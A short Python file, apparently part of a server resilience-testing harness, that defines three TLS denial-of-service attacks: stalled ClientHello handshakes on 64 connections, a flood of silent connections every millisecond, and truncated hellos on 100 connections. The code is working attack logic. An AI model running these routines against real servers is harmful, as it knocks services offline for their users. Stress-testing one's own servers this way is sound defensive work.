import ssl

from attack import Attack
from support import Crowd, connect, flood


def client_hello():
    """The first bytes of a handshake."""
    outgoing = ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    handshake = context.wrap_bio(ssl.MemoryBIO(), outgoing)
    try:
        handshake.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


class Unfinished(Attack):
    """64 connections that begin a TLS handshake and leave it there."""

    tls = True

    def attack(self, server, stopping):
        hello = client_hello()

        def begin():
            connection = connect(server)
            connection.sendall(hello)
            return connection

        Crowd(64, begin).run(stopping)


class Silent(Attack):
    """A new connection that never begins its TLS handshake, every millisecond."""

    tls = True

    def attack(self, server, stopping):
        flood(lambda: connect(server), stopping)


class Cut(Attack):
    """Half a first TLS message, on 100 connections at a time."""

    tls = True

    def attack(self, server, stopping):
        half = client_hello()[:100]

        def begin():
            connection = connect(server)
            connection.sendall(half)
            return connection

        Crowd(100, begin).run(stopping)
